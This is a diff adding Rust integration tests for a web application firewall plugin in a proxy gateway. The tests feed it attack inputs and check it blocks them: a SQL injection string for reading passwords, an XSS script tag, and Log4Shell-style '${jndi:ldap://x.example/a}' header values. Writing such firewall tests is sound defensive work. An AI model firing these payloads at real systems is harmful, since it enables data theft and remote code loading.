@@ -1,0 +1,223 @@
+//! The WAF as it is deployed, in the host: what the glue adds to the core, which has tests of its own.
+
+use std::path::Path;
+use std::sync::OnceLock;
+
+use backstop_host::pack::check;
+use backstop_host::{EndOfStream, Gateway, LogLevel, Module, Outcome, Plugin, Request};
+
+fn wasm() -> Vec<u8> {
+    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../target/modules/waf.wasm");
+    std::fs::read(&path)
+        .unwrap_or_else(|error| panic!("{}: {error}; build it with `make build`", path.display()))
+}
+
+fn gateway(config: &str) -> Gateway {
+    static MODULE: OnceLock<Module> = OnceLock::new();
+    let module = MODULE.get_or_init(|| Module::from_bytes(&wasm()).unwrap());
+    Gateway::builder()
+        .plugin(Plugin::new(module).name("waf").config(config))
+        .log_level(LogLevel::Info)
+        .start()
+        .unwrap()
+}
+
+const ATTACK: &str = "/?q=1%27%20UNION%20SELECT%20password%20FROM%20users--%20";
+
+/// The status of the client and whether the upstream got the whole request.
+fn seen(outcome: &Outcome) -> (u16, bool) {
+    assert!(
+        !outcome.stalled && outcome.failures.is_empty(),
+        "{outcome:?}"
+    );
+    (
+        outcome.status,
+        outcome
+            .upstream
+            .as_ref()
+            .is_some_and(|upstream| upstream.complete),
+    )
+}
+
+#[test]
+fn it_exports_what_it_implements_and_imports_what_envoy_has() {
+    let exports: Vec<String> = check(&wasm()).unwrap().into_iter().collect();
+    assert_eq!(
+        exports,
+        [
+            "_initialize",
+            "memory",
+            "proxy_abi_version_0_2_1",
+            "proxy_on_configure",
+            "proxy_on_context_create",
+            "proxy_on_delete",
+            "proxy_on_memory_allocate",
+            "proxy_on_request_body",
+            "proxy_on_request_headers",
+            "proxy_on_request_trailers",
+            "proxy_on_vm_start",
+        ]
+    );
+}
+
+#[test]
+fn a_verdict_shows_in_the_answer_the_details_the_log_and_the_filter_state() {
+    let outcome = gateway("").send(
+        Request::get(ATTACK)
+            .header("x-request-id", "7f1c-42")
+            .client("198.51.100.7"),
+    );
+    assert_eq!((outcome.status, outcome.upstream.is_none()), (403, true));
+    assert!(
+        outcome
+            .details
+            .starts_with("backstop_waf{SQL_INJECTION:sql-"),
+        "{}",
+        outcome.details
+    );
+    assert_eq!(outcome.response_text(), "Forbidden (request 7f1c-42)\n");
+    assert!(
+        outcome
+            .state("wasm.waf_verdict")
+            .or(outcome.state("waf_verdict"))
+            .is_some_and(|verdict| verdict.starts_with("block:SQL_INJECTION:sql-"))
+    );
+    assert_eq!(outcome.logs.len(), 1);
+    assert_eq!(outcome.logs[0].level, LogLevel::Warn);
+    let line: serde_json::Value = serde_json::from_str(&outcome.logs[0].message).unwrap();
+    assert_eq!(
+        (&line["event"], &line["client_ip"]),
+        (&"SQL_INJECTION_DETECTED".into(), &"198.51.100.7".into())
+    );
+}
+
+#[test]
+fn a_clean_request_passes_and_leaves_no_trace() {
+    let outcome = gateway("").send(Request::get("/matches/1?page=2"));
+    assert_eq!(seen(&outcome), (200, true));
+    assert!(outcome.logs.is_empty() && outcome.filter_state.is_empty());
+    assert_eq!(outcome.calls("on_request_headers"), 1);
+}
+
+#[test]
+fn a_body_is_held_to_its_end_however_it_ends() {
+    let body = "comment=1%27%20UNION%20SELECT%20password%20FROM%20users--%20";
+    let form = Request::post("/")
+        .header("content-type", "application/x-www-form-urlencoded")
+        .body(body);
+    for request in [
+        form.clone(),
+        form.clone().chunks([1, 2, 3]),
+        form.clone()
+            .without_content_length()
+            .chunks([9])
+            .trailer("x-sum", "1"),
+        form.clone().end_of_stream(EndOfStream::WithLastChunk),
+    ] {
+        let outcome = gateway("").send(&request);
+        assert_eq!(seen(&outcome), (403, false), "{request:?}");
+        let outcome = gateway(r#"{"mode":"detect"}"#).send(&request);
+        assert_eq!(seen(&outcome), (200, true), "{request:?}");
+        assert_eq!(outcome.logs.len(), 1);
+    }
+}
+
+#[test]
+fn bytes_that_are_no_utf_8_harm_nothing() {
+    let mut gateway = gateway("");
+    for _ in 0..3 {
+        let outcome = gateway.send(Request::get("/").header("x-bad", b"\xff\xfe"));
+        assert_eq!(seen(&outcome), (200, true));
+    }
+    let outcome =
+        gateway.send(Request::get("/").header("x-bad", b"\xff${jndi:ldap://x.example/a}"));
+    assert_eq!(outcome.status, 403);
+}
+
+#[test]
+fn a_bad_configuration_is_refused_in_one_line_and_the_old_one_stays() {
+    let mut gateway = gateway(r#"{"mode":"detect"}"#);
+    let error = gateway.reconfigure("waf", r#"{"mode":"off"}"#).unwrap_err();
+    assert!(
+        format!("{error:?}")
+            .contains("waf config: $.mode: unknown variant `off`, expected `block` or `detect`"),
+        "{error:?}"
+    );
+    assert_eq!(seen(&gateway.send(Request::get(ATTACK))), (200, true));
+    gateway.reconfigure("waf", r#"{"mode":"block"}"#).unwrap();
+    assert_eq!(gateway.send(Request::get(ATTACK)).status, 403);
+}
+
+#[test]
+fn metrics_have_bounded_labels_and_survive_a_change_of_configuration() {
+    let mut gateway = gateway(r#"{"metrics":{"timeOneIn":1}}"#);
+    gateway.send(Request::get("/"));
+    gateway.send(Request::get("/?q=%3Cscript%3Ealert(1)%3C/script%3E"));
+    gateway.reconfigure("waf", r#"{"mode":"detect"}"#).unwrap();
+    gateway.send(Request::get("/?q=%3Cscript%3Ealert(1)%3C/script%3E"));
+    let metrics = gateway.metrics();
+    let counters: Vec<(String, u64)> = metrics
+        .counters()
+        .map(|(name, value)| (name.to_owned(), value))
+        .collect();
+    let value = |name: &str| {
+        counters
+            .iter()
+            .find(|(counter, _)| counter.ends_with(name))
+            .map_or(0, |(_, value)| *value)
+    };
+    assert_eq!(value("backstop_waf.requests_total"), 3, "{counters:?}");
+    assert_eq!(value("backstop_waf.action=.=block;.;decisions_total"), 1);
+    assert_eq!(value("backstop_waf.action=.=detect;.;decisions_total"), 1);
+    let findings = counters.iter().filter(|(name, _)| {
+        name.contains("category=.=XSS;.;rule=.=xss-") && name.ends_with("findings_total")
+    });
+    assert!(
+        findings
+            .clone()
+            .any(|(name, _)| name.contains("mode=.=block")),
+        "{counters:?}"
+    );
+    assert!(
+        findings
+            .clone()
+            .any(|(name, _)| name.contains("mode=.=detect"))
+    );
+    assert_eq!(metrics.histogram("backstop_waf.inspection_us").len(), 2);
+}
+
+#[test]
+fn a_refused_grpc_call_has_a_grpc_status() {
+    let request = Request::post("/svc/Method")
+        .protocol("HTTP/2")
+        .header("content-type", "application/grpc")
+        .header("x-note", "${jndi:ldap://x.example/a}");
+    let outcome = gateway("").send(request);
+    assert_eq!(outcome.grpc_status(), Some(7), "{outcome:?}");
+}
+
+#[test]
+fn headers_wait_for_the_body_where_the_proxy_allows_it() {
+    let module = Module::from_bytes(&wasm()).unwrap();
+    let mut gateway = Gateway::builder()
+        .plugin(
+            Plugin::new(&module)
+                .name("waf")
+                .config(r#"{"requestBody":{"holdHeaders":true}}"#)
+                .allow_on_headers_stop_iteration(true),
+        )
+        .start()
+        .unwrap();
+    let post = |body: &str| {
+        Request::post("/")
+            .header("content-type", "text/plain")
+            .body(body)
+            .chunks([5])
+    };
+    let outcome = gateway.send(post("1' UNION SELECT password FROM users-- "));
+    assert_eq!((outcome.status, outcome.upstream_contacts), (403, 0));
+    assert_eq!(
+        seen(&gateway.send(post("two tickets, please"))),
+        (200, true)
+    );
+}
